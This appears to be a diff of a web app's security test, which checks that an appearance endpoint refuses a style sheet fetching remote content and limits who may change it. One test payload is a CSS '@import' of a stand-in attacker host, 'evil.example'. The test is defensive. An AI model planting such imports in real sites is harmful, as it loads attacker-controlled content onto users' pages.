@@ -267,10 +267,12 @@ describe('headers carry what we put there (attack cases 93, 95)', () => {
   })
 })
 
-test('the style sheet is ours alone until there is a way to change it (attack case 87)', async () => {
+test('a style sheet that fetches is refused, and only those may change it who may (attack case 87)', async () => {
   const payload = { cssContent: '@import url(https://evil.example/x.css)' }
-  for (const method of ['POST', 'PUT', 'PATCH'] as const)
-    expect((await boss.ask('/fotoweb/appearance/css', { method, payload })).statusCode, method).toBe(405)
+  const ask = (who: Person, method: 'POST' | 'PUT' | 'PATCH') => who.ask('/fotoweb/appearance/css', { method, payload })
+  expect((await ask(boss, 'POST')).statusCode).toBe(400)
+  for (const method of ['PUT', 'PATCH'] as const) expect((await ask(boss, method)).statusCode, method).toBe(405)
+  for (const who of [member, stranger]) expect((await ask(who, 'POST')).statusCode).toBeOneOf([401, 403])
   expect((await boss.ask('/fotoweb/appearance/css')).body).not.toContain('import')
 })
 
